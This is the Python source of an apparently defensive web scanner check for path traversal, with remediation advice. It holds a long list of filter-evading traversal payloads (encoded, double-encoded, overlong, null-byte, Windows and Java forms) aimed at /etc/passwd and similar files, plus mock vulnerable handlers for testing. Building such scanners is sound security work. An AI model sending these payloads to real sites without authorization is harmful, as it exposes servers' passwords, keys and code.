"""A value is used as a path, and files outside of the intended folder can be read.

What it looks for
Parameters, cookies, headers and path parts that name a file. The value is replaced by paths to files that every system
has, with steps upwards in all the spellings that filters overlook: doubled, nested, encoded once and twice, with
backslashes, from the root, behind the folder or before the ending that the site demands.

Why it matters
The server's files hold its passwords, keys and code. With them an attacker goes on to the database and to other
systems.

How it is confirmed
Two different files must come back, each with the content that only it has (`/etc/passwd` and another one, or two files
of Windows), the first one also when its path is spelled in an odd but equal way. A missing file in the same folder,
and the same path with its dots jumbled, must show nothing of the kind: so a page that merely talks about such files
stays silent.

How to fix it
Do not let values name files; use an id and a table. Where they must: resolve the whole path and compare it with the
folder, Python `p = (base / name).resolve(); p.is_relative_to(base)`, Java `base.resolve(name).normalize()
.startsWith(base)`, Node `path.resolve(base, name).startsWith(base + path.sep)`, PHP `realpath` and
`str_starts_with($p, $base . '/')`. Frameworks have it ready: Flask `send_from_directory`, Express `sendFile` with
`root`. Taking `../` out of the value is no fix. Run the site as a user that may read only what it needs.

When it may be wrong
Where reading any file of the server is the page's purpose, or where a deception answers with made-up files.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from dataclasses import asdict, dataclass
from urllib.parse import parse_qs, unquote, urlsplit

from vedette.contract.checkinfo import CheckInfo, Kind, Phase, ProofLevel, Severity
from vedette.contract.exchange import Exchange, Request, Response, Step
from vedette.engine.attack.compare import blocked
from vedette.engine.attack.example import Example, Handler
from vedette.engine.attack.point import Point, PointKind, Target
from vedette.engine.attack.probe import Candidate, Probe, Proof
from vedette.engine.attack.rng import Rng
from vedette.engine.checks.file.example_files import ACCOUNTS, Files
from vedette.engine.checks.file.stable_files import SYSTEMS, System, content_of

INFO = CheckInfo(
    id="file-path-traversal",
    title="Path traversal",
    kind=Kind.ACTIVE,
    phase=Phase.DETECT,
    severity=Severity.HIGH,
    proof=ProofLevel.CONFIRMED,
    cwe=(22,),
    cvss31="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
    cvss40="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N",
    owasp="A01:2021",
    references=(
        "https://owasp.org/www-community/attacks/Path_Traversal",
        "https://cwe.mitre.org/data/definitions/22.html",
    ),
    tags=("file", "traversal"),
    cost=3,
    points=("query", "path", "form", "json", "xml", "multipart", "cookie", "header"),
    wants=("error:file", "changed", "odd", "failed"),
    profiles=("safe", "normal", "full"),
)

WALLS = 3
WINDOWS = ("windows", "iis", "asp.net")
JAVA = ("java", "tomcat", "apache tomcat", "jetty", "spring", "jsp", "jboss", "wildfly")


@dataclass(frozen=True, slots=True)
class Form:
    """A spelling of paths: `@f` is the file without its first slash, `@d` the folder and `@x` the ending of the value
    that was there, `@v` that value. `slash` and `dot` stand for these characters; `raw` goes out as it is."""

    template: str
    system: str = "unix"
    dot: str = "."
    slash: str = "/"
    raw: bool = False

    def render(self, value: str, file: str, jumbled: bool = False) -> str:
        """The payload; `jumbled` breaks the way to the file and keeps its name."""
        folder, _, name = value.rpartition("/")
        extension = "." + name.rpartition(".")[2] if "." in name else ""
        way, _, rest = self.template.partition("@f")
        if jumbled:
            way = way.replace("..", ".-") if ".." in way else way + "-/"
        path = (way + file + rest).replace("/", self.slash).replace(".", self.dot)
        path = path.replace("@d", folder).replace("@x", extension).replace("@v", value)
        return path.replace("\0", "%00") if self.raw else path


_UP = "../" * 8
_PLAIN, _ROOT, _NESTED = Form(_UP + "@f"), Form("/@f"), Form("....//" * 8 + "@f")
_WINDOWS_PLAIN = Form(_UP + "@f", "windows", slash="\\")


def _thorough(technologies: frozenset[str]) -> tuple[Form, ...]:
    """Spellings from the likely to the odd; steps beyond the root do no harm where the way up is a real one."""
    java = [Form("../" * depth + "@f", "java") for depth in (0, 1, 2, 3)] if technologies & set(JAVA) else []
    return (
        Form("@d/" + _UP + "@f"),
        Form("@v/" + _UP + "@f"),
        Form(_UP + "@f\0@x"),
        Form("file:///@f"),
        Form(_UP + "@f", slash="%2f", dot="%2e"),
        Form(_UP + "@f", slash="%2f"),
        Form(_UP + "@f", slash="%252f", dot="%252e"),
        Form(_UP + "@f", slash="%2f", dot="%2e", raw=True),
        Form(_UP + "@f", slash="\\"),
        Form("..././" * 8 + "@f"),
        Form("/" + _UP + "@f"),
        Form("./" + _UP + "@f"),
        Form("..//" * 8 + "@f"),
        Form("//@f"),
        Form(_UP + "@f", slash="%c0%af", raw=True),
        Form(_UP + "@f", slash="%c0%af", dot="%c0%ae", raw=True),
        Form("..;/" * 8 + "@f"),
        Form(_UP + "@f?@x"),
        Form(_UP + "@f#@x"),
        Form(_UP + "@f/."),
        *(Form("../" * depth + "@f") for depth in (1, 2, 3, 4, 5, 6)),
        Form("../" * 16 + "@f"),
        _WINDOWS_PLAIN,
        Form(_UP + "@f", "windows"),
        Form("C:\\@f", "windows", slash="\\"),
        Form("C:/@f", "windows"),
        Form("....\\\\" * 8 + "@f", "windows", slash="\\"),
        Form(_UP + "@f\0@x", "windows", slash="\\"),
        *java,
        Form(_UP + "@f", raw=True),
    )


def _shown(exchange: Exchange, system: System, file: str) -> str:
    return content_of(system, file, exchange.response.text) if exchange.response else ""


def _odd(file: str) -> str:
    """The same file by an odd but equal path, which no page that looks for names would have."""
    folder, _, name = file.rpartition("/")
    return f"{folder}/./{name}"


def _missing(file: str, rng: Rng) -> str:
    folder, _, name = file.rpartition("/")
    return f"{folder}/{rng.word(len(name))}"


def _site(
    clean: Callable[[str], str] = str, folder: str = "/srv/site/docs", before: str = "", after: str = ""
) -> Handler:
    """A page that reads the file named by `doc`, cleaned in some way, and shows it."""

    def handle(request: Request) -> Response:
        doc = parse_qs(urlsplit(request.url).query).get("doc", [""])[0]
        text = Files().read(before + clean(doc) + after, folder)
        if text is None:
            return Response(404, (("Content-Type", "text/html"),), f"<p>No file {doc!r}</p>".encode())
        return Response(200, (("Content-Type", "text/html"),), f"<pre>{html.escape(text)}</pre>".encode())

    return handle


def _inside(doc: str) -> str:
    """The right way: resolve, then compare with the folder."""
    parts: list[str] = ["srv", "site", "docs"]
    for step in doc.split("/"):
        parts = parts[:-1] if step == ".." else [*parts, step] if step not in ("", ".") else parts
    path = "/" + "/".join(parts)
    return path if path.startswith("/srv/site/docs/") else "/nothing"


def _manual(request: Request) -> Response:
    """A manual that answers with the chapters whose titles occur in what was asked."""
    doc = parse_qs(urlsplit(request.url).query).get("doc", [""])[0]
    chapters = {"passwd": ACCOUNTS, "hosts": "127.0.0.1 localhost", "group": "root:x:0:"}
    text = "".join(f"<h2>{name}</h2><pre>{sample}</pre>" for name, sample in chapters.items() if name in doc)
    return Response(200, (("Content-Type", "text/html"),), (text or f"<p>Nothing about {doc}</p>").encode())


def _guarded(value: str) -> str:
    return value if value.startswith("guides/") else "nothing"


def _point(value: str) -> Point:
    return Point(Target(Request("GET", f"http://shop.example/doc?doc={value}"), "/doc"), PointKind.QUERY, "doc", value)


_POINT = _point("guide.txt")

EXAMPLES = (
    Example(name="any relative path", vulnerable=True, handler=_site(), point=_POINT),
    Example(
        name="steps upwards taken out once",
        vulnerable=True,
        handler=_site(lambda d: d.replace("../", "")),
        point=_POINT,
    ),
    Example(
        name="only paths from the root", vulnerable=True, handler=_site(lambda d: d.replace("..", "")), point=_POINT
    ),
    Example(
        name="decoded a second time",
        vulnerable=True,
        handler=_site(lambda d: "x" if "../" in d or d[:1] == "/" else unquote(d)),
        point=_POINT,
    ),
    Example(
        name="must begin with its folder",
        vulnerable=True,
        handler=_site(lambda d: _guarded(d).replace("guides/", "")),
        point=_point("guides/guide.txt"),
    ),
    Example(name="resolved and compared", vulnerable=False, handler=_site(_inside), point=_POINT),
    Example(
        name="only the last part of the path", vulnerable=False, handler=_site(lambda d: d.split("/")[-1]), point=_POINT
    ),
    Example(name="a manual with samples of the files", vulnerable=False, handler=_manual, point=_POINT),
)


async def detect(probe: Probe, point: Point) -> list[Candidate]:
    """One path upwards anywhere; two more spellings for what looks like a file or reacts; where a file reacts, all."""
    filelike = bool(probe.reaction.signs & {"file-like", "error:file"})
    forms = [_WINDOWS_PLAIN if probe.technologies & set(WINDOWS) else _PLAIN]
    if filelike or probe.full:
        forms += [_ROOT, _NESTED]
    if filelike and probe.full:
        forms += _thorough(probe.technologies)
    return await _try(probe, point, forms)


async def _try(probe: Probe, point: Point, forms: list[Form]) -> list[Candidate]:
    walls = 0
    for form in forms:
        if form.raw and not _goes_raw(form, point):
            continue
        system = SYSTEMS[form.system]
        exchange = await _ask(probe, point, form, system.first)
        if blocked(exchange):
            walls += 1
            if walls == WALLS:
                break
        elif seen := _shown(exchange, system, system.first):
            if _shown((await probe.baseline(point)).representative, system, system.first):
                break
            step = Step("Detection", exchange, (seen,))
            return [Candidate(check=INFO.id, point=point, data=asdict(form), steps=(step,))]
    return []


def _goes_raw(form: Form, point: Point) -> bool:
    """Whether the form says something else when it goes out as it is; unescaped slashes do so only in paths."""
    kinds = (PointKind.QUERY, PointKind.PATH, PointKind.FORM, PointKind.COOKIE)
    return point.kind is PointKind.PATH or (point.kind in kinds and form.slash != "/")


async def _ask(
    probe: Probe, point: Point, form: Form, file: str, *, jumbled: bool = False, fresh: bool = False
) -> Exchange:
    payload = form.render(point.value, file, jumbled)
    send = probe.send_raw if form.raw else probe.send
    return await send(point, payload, fresh=fresh)


async def verify(probe: Probe, candidate: Candidate) -> Proof | None:
    """The first file again, spelled oddly; a second file; a missing one and a broken way as controls."""
    point = candidate.point
    if point is None:
        return None
    form = Form(**candidate.data)
    system = SYSTEMS[form.system]
    first = await _read(probe, point, form, system, system.first)
    if first is None:
        return None
    controls = await _controls(probe, point, form, system)
    if controls is None:
        return None
    for other in system.others:
        second = await _read(probe, point, form, system, other)
        if second:
            detail = f"The value of {point.name} names a file: /{system.first} and /{other} came back."
            return Proof(level=ProofLevel.CONFIRMED, detail=detail, steps=(*first, *second, *controls))
    detail = f"The value of {point.name} names a file: /{system.first} came back, no second file did."
    return Proof(level=ProofLevel.FIRM, detail=detail, steps=(*first, *controls))


async def _read(probe: Probe, point: Point, form: Form, system: System, file: str) -> tuple[Step, ...] | None:
    """The steps in which the file, and nothing that looks like the other kind of file, came back; None otherwise.

    The odd spelling comes first; a site that cannot take it must still answer the plain one.
    """
    for path in (_odd(file), file) if file == system.first else (file,):
        exchange = await _ask(probe, point, form, path, fresh=True)
        if blocked(exchange) or not exchange.usable:
            continue
        seen = _shown(exchange, system, file)
        rivals = [name for name in (system.first, *system.others) if name != file and _shown(exchange, system, name)]
        if seen and not rivals:
            return (Step(f"The file /{path}", exchange, (seen,), f"The answer holds what only /{file} has."),)
    return None


async def _controls(probe: Probe, point: Point, form: Form, system: System) -> tuple[Step, ...] | None:
    """A missing file beside the first one, and a broken way to it; None when either shows any such content."""
    asked = (
        ("A missing file in the same folder", _missing(system.first, probe.rng), False),
        ("The same name by a way that leads nowhere", system.first, True),
    )
    steps = []
    for label, file, jumbled in asked:
        exchange = await _ask(probe, point, form, file, jumbled=jumbled, fresh=True)
        if blocked(exchange) or any(_shown(exchange, system, name) for name in system.content):
            return None
        steps.append(Step(label, exchange, note="No content of such a file may appear.", control=True))
    return tuple(steps)
